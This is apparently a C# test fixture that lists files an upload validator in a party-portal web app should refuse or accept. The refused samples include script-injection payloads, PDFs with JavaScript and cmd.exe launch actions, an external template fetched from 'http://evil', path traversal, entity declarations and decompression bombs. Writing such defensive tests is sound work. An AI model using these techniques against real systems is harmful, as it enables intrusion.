using PartyPortal.Domain.Files;
using PartyPortal.Web.Tests.Harness;
using SkiaSharp;
using static PartyPortal.Web.Tests.Harness.SampleFile;

namespace PartyPortal.Web.Tests.Files;

/// <summary>What people send, and what becomes of it: one line each.</summary>
public static class SentFiles
{
    private const string Pretends = "is not what its name says";
    private const string NotTaken = "of a kind that is not taken here";
    private const string HasPrograms = "macros or other programs";
    private const string Damaged = "damaged";
    private const string Acts = "scripts, programs or other files";
    private const string Unreadable = "cannot be read";

    private static readonly (string Name, FileUse Use, string Why, Func<byte[]> Bytes)[] Bad =
    [
        ("plain.exe", FileUse.Attachment, NotTaken, Exe),
        ("program as.pdf", FileUse.Attachment, Pretends, Exe),
        ("program as.docx", FileUse.Attachment, Pretends, Exe),
        ("program as.jpg", FileUse.Picture, Pretends, Exe),
        ("program as.txt", FileUse.Attachment, Pretends, Exe),
        ("program.pdf.exe", FileUse.Attachment, NotTaken, Exe),
        ("page.html", FileUse.Attachment, NotTaken, () => Text("<html><script>alert(1)</script>")),
        ("page as.jpg", FileUse.Picture, Pretends, () => Text("<html><script>alert(1)</script>")),
        ("page as.txt", FileUse.Attachment, Pretends, () => Text("\uFEFF  <html><script>alert(1)</script>")),
        ("page as.pdf", FileUse.Document, Pretends, () => Text("<html>%PDF-")),
        ("page as.mp4", FileUse.Video, Pretends, () => Text("<html><script>alert(1)</script>")),
        ("page as.csv", FileUse.Attachment, Pretends, () => Text("<script>alert(1)</script>")),
        ("drawing.svg", FileUse.Attachment, NotTaken, () => Text("<svg onload='alert(1)'/>")),
        ("drawing as.png", FileUse.Picture, Pretends, () => Text("<svg onload='alert(1)'/>")),
        ("script.js", FileUse.Attachment, NotTaken, () => Text("alert(1)")),
        ("polyglot.gif", FileUse.Picture, Unreadable, GifScript),
        ("no ending", FileUse.Attachment, NotTaken, () => Pdf()),
        ("empty.pdf", FileUse.Attachment, "is empty", () => []),
        ("bomb.png", FileUse.Picture, "million pixels", () => PictureBomb(50_000)),
        ("broken.png", FileUse.Picture, Unreadable, () => Picture()[..20]),
        ("script.pdf", FileUse.Document, Acts, () => Pdf("/OpenAction 5 0 R", "<< /S /JavaScript /JS (app.alert\\(1\\)) >>")),
        ("hidden script.pdf", FileUse.Document, Acts, () => Pdf("/OpenAction 5 0 R", "<< /S /J#61vaScript /JS (app.alert\\(1\\)) >>")),
        ("packed script.pdf", FileUse.Document, Acts, () => PackedPdf("<< /S /JavaScript /JS (app.alert\\(1\\)) >>")),
        ("launches.pdf", FileUse.Attachment, Acts, () => Pdf("/OpenAction 5 0 R", "<< /S /Launch /F (cmd.exe) >>")),
        ("carries a file.pdf", FileUse.Attachment, Acts, () => Pdf("/Names << /EmbeddedFiles << /Names [] >> >>")),
        ("broken.pdf", FileUse.Attachment, Damaged, () => Text("%PDF-1.7\nnothing more")),
        ("macros.docm", FileUse.Attachment, NotTaken, () => Office("word")),
        ("sheet.xlsm", FileUse.Attachment, NotTaken, () => Office("xl")),
        ("macros as.docx", FileUse.Attachment, HasPrograms, () => Office("word", Word, ("word/vbaProject.bin", "x"))),
        ("macros as.xlsx", FileUse.Attachment, HasPrograms, () => Office("xl", "application/vnd.ms-excel.sheet.macroEnabled.main+xml")),
        ("program inside.docx", FileUse.Attachment, HasPrograms, () => Office("word", Word, ("word/embeddings/a.exe", "x"))),
        ("fetched template.docx", FileUse.Attachment, HasPrograms, () => Office("word", Word, ("word/_rels/settings.xml.rels", "<Relationship Type=\"http://x/attachedTemplate\" Target=\"http://evil/a.dotm\" TargetMode=\"External\"/>"))),
        ("climbs out.docx", FileUse.Attachment, Damaged, () => Office("word", Word, ("word/../../evil.txt", "x"))),
        ("entities.docx", FileUse.Attachment, Damaged, () => Office("word", Word, ("word/settings.xml", "<!DOCTYPE x [<!ENTITY a \"aaaa\">]><x>&a;</x>"))),
        ("bomb.docx", FileUse.Attachment, Damaged, () => OfficeBomb(64)),
        ("sheet as.docx", FileUse.Attachment, Pretends, () => Office("xl")),
        ("archive as.docx", FileUse.Attachment, Pretends, () => Office("word", "x")[60..]),
        ("archive.zip", FileUse.Attachment, NotTaken, () => Office("word")),
        ("macros.doc", FileUse.Attachment, "contains macros", () => OldOffice("_VBA_PROJECT_CUR")),
        ("locked.xls", FileUse.Attachment, "locked with a password", () => OldOffice("EncryptedPackage")),
        ("locked.docx", FileUse.Attachment, Pretends, () => OldOffice("EncryptedPackage")),
        ("document as.mp4", FileUse.Video, Pretends, () => Pdf()),
        ("telephone.mov", FileUse.Video, NotTaken, () => Mp4("qt  ")),
        ("telephone as.mp4", FileUse.Video, Pretends, () => Mp4("qt  ")),
        ("picture for a video.png", FileUse.Video, NotTaken, () => Picture()),
        ("document for a picture.pdf", FileUse.Picture, NotTaken, () => Pdf()),
        ("song for slides.mp3", FileUse.Slides, NotTaken, Mp3),
    ];

    private static readonly (string Name, FileUse Use, FileKind Kind, Func<byte[]> Bytes)[] Good =
    [
        ("章程.pdf", FileUse.Attachment, FileKind.Pdf, () => Pdf()),
        ("课件.pdf", FileUse.Slides, FileKind.Pdf, () => Pdf("/OpenAction [3 0 R /Fit]")),
        ("申请书.docx", FileUse.Attachment, FileKind.Document, () => Office("word", Word, ("word/_rels/document.xml.rels", "<Relationship Type=\"http://x/hyperlink\" Target=\"https://www.12371.cn\" TargetMode=\"External\"/>"))),
        ("名单.xlsx", FileUse.Attachment, FileKind.Spreadsheet, () => Office("xl")),
        ("课件.pptx", FileUse.Slides, FileKind.Slides, () => Office("ppt")),
        ("旧表.doc", FileUse.Attachment, FileKind.Document, () => OldOffice("WordDocument")),
        ("说明.txt", FileUse.Attachment, FileKind.Text, () => Text("中文说明\r\n")),
        ("数据.csv", FileUse.Attachment, FileKind.Text, () => Text("\uFEFF姓名,学号\n")),
        ("照片.JPG", FileUse.Picture, FileKind.Picture, () => Picture(SKEncodedImageFormat.Jpeg)),
        ("wechat.jpg", FileUse.Attachment, FileKind.Picture, () => Picture(SKEncodedImageFormat.Webp)),
        ("短片.mp4", FileUse.Video, FileKind.Video, () => Mp4()),
        ("短片.webm", FileUse.Video, FileKind.Video, Webm),
        ("录音.m4a", FileUse.Audio, FileKind.Audio, () => Mp4("M4A ")),
        ("录音.mp3", FileUse.Audio, FileKind.Audio, Mp3),
        ("录音.wav", FileUse.Audio, FileKind.Audio, Wav),
    ];

    public static TheoryData<string, FileUse, string> Refused => [.. Bad.Select(f => (f.Name, f.Use, f.Why))];

    public static TheoryData<string, FileUse, FileKind> Taken => [.. Good.Select(f => (f.Name, f.Use, f.Kind))];

    public static byte[] BytesOf(string name, FileUse use) => Bad.Where(f => f.Name == name && f.Use == use).Select(f => f.Bytes)
        .Concat(Good.Where(f => f.Name == name && f.Use == use).Select(f => f.Bytes)).Single()();
}
